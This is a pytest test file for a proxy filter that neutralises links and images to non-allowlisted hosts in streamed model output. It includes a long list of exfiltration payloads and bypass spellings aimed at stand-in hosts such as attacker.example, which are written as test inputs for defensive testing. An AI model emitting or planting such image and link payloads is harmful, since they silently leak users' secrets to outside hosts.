import random

import pytest

from proxy.detectors.links import (
    IMAGE_RULE,
    LINK_RULE,
    LinkFilter,
    find_links,
    neutralise,
    redact_host,
    url_host,
)
from proxy.model import Action, Finding, Severity, Threat


def allowed(host: str) -> bool:
    return host == "docs.example.com" or host.endswith(".trusted.org")


STREAM_SAMPLES = [
    "See ![chart](https://evil.example/c.png?d=SECRET) and [docs](https://docs.example.com/a) "
    "or [bad](http://bad.io/x?q=1).",
    "Ref style: ![img][r1]\n\n[r1]: https://evil.example/p?leak=abc\n[ok]: https://docs.example.com/\nend",
    'Auto <https://evil.example/x?y=z> and <https://docs.example.com/>. HTML <img src="https://evil.example/'
    "a.gif?s=1\" alt=x> <a href='http://bad.io/?q'>click</a> tail",
    "No links [just brackets] and a < b and ![not closed",
    'title ![x](https://evil.example/i.png "t") ok [r]: https://evil.example/notadef',
    "[r]: https://evil.example/end",
]


def test_markdown_image_to_foreign_host_is_removed_entirely() -> None:
    """An image to a non-allowlisted host disappears and is reported as high severity."""
    text, findings = neutralise("Look: ![x](https://evil.example/p.png?d=SECRET) done", allowed)
    assert text == "Look:  done"
    (finding,) = findings
    assert finding.threat is Threat.DATA_EXFILTRATION
    assert finding.rule == IMAGE_RULE
    assert finding.severity is Severity.HIGH
    assert finding.action is Action.REDACT
    assert finding.owasp == "LLM02"


def test_markdown_link_is_replaced_by_marker_naming_host() -> None:
    """A link to a foreign host becomes a marker that names the host."""
    text, findings = neutralise("[click](http://bad.io/collect?q=1)", allowed)
    assert text == "[link removed: bad.io]"
    assert findings[0].rule == LINK_RULE
    assert findings[0].extra["host"] == "bad.io"


def test_findings_never_carry_the_query_or_path() -> None:
    """The stolen data sits in the path and query; no finding field holds it."""
    _, findings = neutralise("![a](https://evil.example/SECRETPATH?token=SECRETQUERY)", allowed)
    assert "SECRET" not in repr(findings[0].to_event())


def test_allowlisted_hosts_are_kept() -> None:
    """Links and images to allowed hosts pass untouched."""
    text = "![d](https://docs.example.com/a.png) [x](https://cdn.trusted.org/y)"
    assert neutralise(text, allowed) == (text, [])


def test_relative_and_data_urls_are_kept() -> None:
    """URLs without a host cannot exfiltrate to one."""
    text = "[r](/local/path) ![d](data:image/png;base64,AAAA) [a](#anchor)"
    assert neutralise(text, allowed) == (text, [])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<https://evil.example/x?y=z>", "[link removed: evil.example]"),
        ('<img alt="x" src="https://evil.example/a.gif?s=1">', ""),
        ("<IMG SRC='//evil.example/a.gif'>", ""),
        ("<a href=https://bad.io/?q>go</a>", "[link removed: bad.io]go</a>"),
        ("intro\n[ref]: https://evil.example/p?leak=1\n", "intro\n[link removed: evil.example]\n"),
        ('![x](<https://evil.example/a b.png> "title")', ""),
        ('![x](https://evil.example/a.png "title")', ""),
    ],
)
def test_every_construct_is_neutralised(text: str, expected: str) -> None:
    """Autolinks, HTML img/a, reference definitions and titled images are all handled."""
    assert neutralise(text, allowed)[0] == expected


def test_reference_definition_only_at_line_start() -> None:
    """`[x]: url` in the middle of a sentence is not a definition."""
    text = "as noted in [x]: https://evil.example/a"
    assert neutralise(text, allowed) == (text, [])


def test_url_host_normalises() -> None:
    """Hosts are lowercased, stripped of port, credentials and trailing dot."""
    assert url_host("https://user:pw@Evil.Example.:8443/p") == "evil.example"
    assert url_host("//cdn.example.org/x") == "cdn.example.org"
    assert url_host("/relative") is None
    assert url_host("javascript:alert(1)") is None


def test_find_links_reports_kind_and_host() -> None:
    """find_links lists every construct with its kind."""
    hits = find_links("![a](https://x.io/i) [b](https://y.io/)")
    assert [(hit.kind, hit.host, hit.is_image) for hit in hits] == [
        ("md_image", "x.io", True),
        ("md_link", "y.io", False),
    ]


@pytest.mark.parametrize("text", STREAM_SAMPLES)
def test_stream_filter_matches_one_shot_in_small_pieces(text: str) -> None:
    """Fed 1-3 characters at a time, the filter releases exactly the one-shot result."""
    expected, expected_findings = neutralise(text, allowed)
    rng = random.Random(7)  # noqa: S311 - chunk sizes for a test, not a secret
    for _ in range(50):
        stream = LinkFilter(allowed)
        released, position = [], 0
        while position < len(text):
            size = rng.randint(1, 3)
            released.append(stream.feed(text[position : position + size]))
            position += size
        released.append(stream.flush())
        assert "".join(released) == expected
        assert stream.findings == expected_findings


def test_stream_filter_releases_plain_text_at_once() -> None:
    """Text with no open construct is not held back."""
    stream = LinkFilter(allowed)
    assert stream.feed("Hello there, ") == "Hello there, "
    assert stream.feed("this is ![") == "this is "
    assert stream.feed("x](https://evil.example/a.png) end") == " end"
    assert stream.found


def test_stream_filter_gives_up_on_an_oversized_construct() -> None:
    """A construct longer than the cap is released as it stands rather than held forever."""
    stream = LinkFilter(allowed, max_held=16)
    text = '<img src="https://evil.example/' + "a" * 40
    assert stream.feed(text).startswith('<img src="https://')


def stream_in_pieces(text: str, seed: int, largest: int = 3) -> tuple[str, list[Finding]]:
    """What a LinkFilter releases when ``text`` arrives 1 to ``largest`` characters at a time."""
    rng = random.Random(seed)  # noqa: S311 - chunk sizes for a test, not a secret
    stream = LinkFilter(allowed)
    released, position = [], 0
    while position < len(text):
        size = rng.randint(1, largest)
        released.append(stream.feed(text[position : position + size]))
        position += size
    released.append(stream.flush())
    return "".join(released), stream.findings


BYPASSES = [
    "![a](https:\\\\attacker.example/x)",
    "![a](https:attacker.example/x)",
    "![a](https:///attacker.example/x)",
    "![a](//attacker.example/x)",
    "![a](\\\\attacker.example/x)",
    "![a](HtTpS://attacker.example/x)",
    '<img src=" \x01https://attacker.example/x\x00 ">',
    "![a](https://attacker.example\\@localhost/x)",
    '<img src="https://attacker.example\\@docs.example.com/x">',
    '<img src="ht\ttps://attacker.example/x">',
    '<img src="ht\ntps://attacker.example/x">',
    '<img srcset="https://docs.example.com/a.png 1x, https://attacker.example/b.png 2x">',
    '<picture><source srcset="https://attacker.example/b.png"></picture>',
    '<img srcset="https://docs.example.com,@attacker.example/b.png">',
    "<img src=https://attacker.example/x>",
    "<a href='https://attacker.example/x'>go</a>",
    '<img src="&#104;ttps://attacker.example/x">',
    '<img src="https&colon;//attacker.example/x">',
    "![a](&#104;ttps://attacker.example/x)",
    "![a](https://%61ttacker.example/x)",
    "![a](https://\u0430ttacker.example/x)",
    "![a](https://ATTACKER\uff0eexample/x)",
    "![a](http://0x7f.1/x)",
    "![a](http://2130706433/x)",
    "![a](http://0177.0.0.1/x)",
    '<div style="background:url(https://attacker.example/x.png)">',
    '<div style="background:url(&quot;//attacker.example/x.png&quot;)">',
    '<div style="background:u\\72l(https\\3a //attacker.example/x)">',
    "<div style=\"background-image:image-set('https://attacker.example/x.png' 1x)\">",
    "[r]:\n  https://attacker.example/x",
    "> [r]: https://attacker.example/x",
    "<https://attacker.example/x>",
    "[![x](https://attacker.example/a.png)](https://docs.example.com/)",
    "![[[[[[[[[x]]]]]]]]](https://attacker.example/a.png)",
    "![a\nb](https://attacker.example/x)",
    "![x](https://attacker.example/a(b).png)",
    "![x](<https://attacker.example/a b.png>)",
    "![x](https://docs.example.com\\@attacker.example/)",
    '<img alt="a>b" src=https://attacker.example/x>',
    '<img alt=x"y src=https://attacker.example/x>',
    '<img src="https://docs.example.com\u00a0@attacker.example/">',
    '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<iframe srcdoc="&lt;img src=https://attacker.example/x&gt;">',
]


def in_context(construct: str) -> str:
    return f"Before\n{construct}\nafter"


@pytest.mark.parametrize("text", BYPASSES)
def test_browser_readings_of_a_url_are_neutralised(text: str) -> None:
    """Every spelling a browser or renderer resolves to a foreign host is neutralised."""
    released, findings = neutralise(in_context(text), allowed)
    assert "ttacker" not in released.replace("[link removed: attacker.example]", "")
    assert released.startswith("Before\n") and released.endswith("\nafter")
    assert findings and all(finding.threat is Threat.DATA_EXFILTRATION for finding in findings)


@pytest.mark.parametrize("text", BYPASSES)
def test_browser_readings_stream_like_one_shot(text: str) -> None:
    """Fed 1-3 characters at a time, each bypass is neutralised exactly as in one shot."""
    expected = neutralise(in_context(text), allowed)
    for seed in range(8):
        assert stream_in_pieces(in_context(text), seed) == expected


ALLOWED_SPELLINGS = [
    "![d](HTTPS://Docs.Example.Com/a.png)",
    '<img srcset="https://docs.example.com/a.png 1x, //cdn.trusted.org/b.png 2x">',
    '<div style="background:url(https://docs.example.com/x.png); font-family: &quot;Arial&quot;">',
    "![x](https://b\u00fccher.trusted.org/a)",
    "![x](https://xn--bcher-kva.trusted.org/a)",
    "[x](https://docs.example.com/a_(b))",
    '<a href="/relative">x</a> <b>bold</b> and a < b',
    "[next](https://docs.example.com/?next=https://other.example/)",
    "![x](https://docs.example.com./a) <https://docs.example.com:443/>",
    "[![badge](https://cdn.trusted.org/b.svg)](https://docs.example.com/)",
]


@pytest.mark.parametrize("text", ALLOWED_SPELLINGS)
def test_allowed_hosts_pass_in_every_spelling(text: str) -> None:
    """Allowlisted hosts, however spelled, pass untouched in one shot and in a stream."""
    assert neutralise(text, allowed) == (text, [])
    assert stream_in_pieces(text, 3) == (text, [])


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https:\\\\Attacker.Example/x", "attacker.example"),
        ("https:attacker.example", "attacker.example"),
        ("\t https://attacker.example\\@localhost/x\x00", "attacker.example"),
        ("wss://u:p@attacker.example:8443?q", "attacker.example"),
        ("ftp://attacker.example#f", "attacker.example"),
        ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
        ("https://fa\u00df.example/", "xn--fa-hia.example"),
        ("https://exa\u00admple.com/", "example.com"),
        ("http://0x7f000001/", "127.0.0.1"),
        ("http://127.1/", "127.0.0.1"),
        ("http://[::FFFF:7f00:1]/", "::ffff:7f00:1"),
        ("https://%5Battacker.example/", "[attacker.example"),
        ("mailto:a@attacker.example", None),
        ("data:image/png;base64,AAAA", None),
        ("/path//attacker.example", None),
        ("https://", None),
    ],
)
def test_url_host_follows_the_whatwg_parser(url: str, host: str | None) -> None:
    """Hosts come out as a browser resolves them: special schemes, backslashes, IDNA, IPv4 forms."""
    assert url_host(url) == host


@pytest.mark.parametrize(
    ("host", "shown"),
    [
        ("collector.attacker.example", "collector.attacker.example"),
        ("xoxb-123456789012-abcdefghijkl.attacker.example", "….attacker.example"),
        ("a.b.c.attacker.example", "a.….attacker.example"),
        ("img.attacker.co.uk", "img.attacker.co.uk"),
        ("ghp-abcdefghijklmnopqrstuvwxyz0123456789.com", "….com"),
        ("127.0.0.1", "127.0.0.1"),
        ("2001:db8:1:2:dead:beef:cafe:1", "2001:db8:1:2::/64"),
        ("evil<b>.example", "….example"),
    ],
)
def test_redact_host_keeps_only_what_cannot_carry_data(host: str, shown: str) -> None:
    """The registrable part and a short first label survive; long or odd labels become an ellipsis."""
    assert redact_host(host) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://user:USERINFO@attacker.example/PATHDATA?q=QUERYDATA#FRAGDATA)",
        "[a](https://xoxb-1234567890-LONGLABELDATA.attacker.example/x)",
        '<img srcset="https://SRCSETDATA-0123456789abcdef.attacker.example/PATHDATA 1x">',
        "<a href='https://USERINFO@attacker.example/PATHDATA'>x</a>",
        "[r]: https://attacker.example/PATHDATA?QUERYDATA",
    ],
)
def test_findings_and_markers_never_carry_url_data(text: str) -> None:
    """Neither a finding nor the replacement marker holds userinfo, path, query or a long label."""
    for released, findings in (neutralise(text, allowed), stream_in_pieces(text, 1)):
        recorded = released + repr([finding.to_event() for finding in findings])
        assert findings
        for secret in ("USERINFO", "PATHDATA", "QUERYDATA", "FRAGDATA", "LONGLABELDATA", "SRCSETDATA"):
            assert secret.lower() not in recorded.lower()


def test_nested_image_inside_allowed_link_is_removed() -> None:
    """An image used as the text of an allowed link is still checked and removed."""
    text, findings = neutralise("[![x](https://attacker.example/a.png)](https://docs.example.com/)", allowed)
    assert text == "[](https://docs.example.com/)"
    assert [finding.extra["construct"] for finding in findings] == ["md_image"]


def test_html_tag_kinds_follow_whether_a_click_is_needed() -> None:
    """Tags that load a resource by themselves are images; tags reached by a click are links."""
    hits = find_links('<a href="https://x.io/">a</a><img src="https://y.io/i"><link href="https://z.io/s">')
    assert [(hit.kind, hit.host) for hit in hits] == [
        ("html_a", "x.io"),
        ("html_img", "y.io"),
        ("html_img", "z.io"),
    ]


FRAGMENTS = [
    "![", "[", "]", "(", ")", "<", ">", '"', "'", "=", " ", "\n", "\n\n", "> ", "- ", "img", " src", " href",
    " srcset", " style", "url(", ":", "https://", "//", "attacker.example", "docs.example.com", "/x", "\\",
    "&#104;", " 1x, ", "](", "]:", "@", "&quot;", "<img ", "<a ", "![x](", "[r]: ",
]  # fmt: skip


def test_stream_filter_matches_one_shot_on_random_fragments() -> None:
    """Random mixes of construct fragments stream exactly as they are neutralised in one shot."""
    rng = random.Random(11)  # noqa: S311 - test data, not a secret
    for _ in range(300):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 30)))
        expected = neutralise(text, allowed)
        assert stream_in_pieces(text, 0) == expected, text
        assert stream_in_pieces(text, 1) == expected, text


PROSE = ["The answer ", "is on ", "the page", ", see ", "docs", " today. ", "plain words ", "42 "]


def test_stream_filter_matches_one_shot_when_prose_comes_between_constructs() -> None:
    """Deltas of prose alone (released at once, without a walk) between deltas that open, continue and
    close constructs stream exactly as the whole text is neutralised in one shot."""
    rng = random.Random(13)  # noqa: S311 - test data, not a secret
    for _ in range(300):
        text = "".join(rng.choice(FRAGMENTS + PROSE * 3) for _ in range(rng.randint(1, 40)))
        expected = neutralise(text, allowed)
        for seed in range(3):
            assert stream_in_pieces(text, seed, largest=16) == expected, text
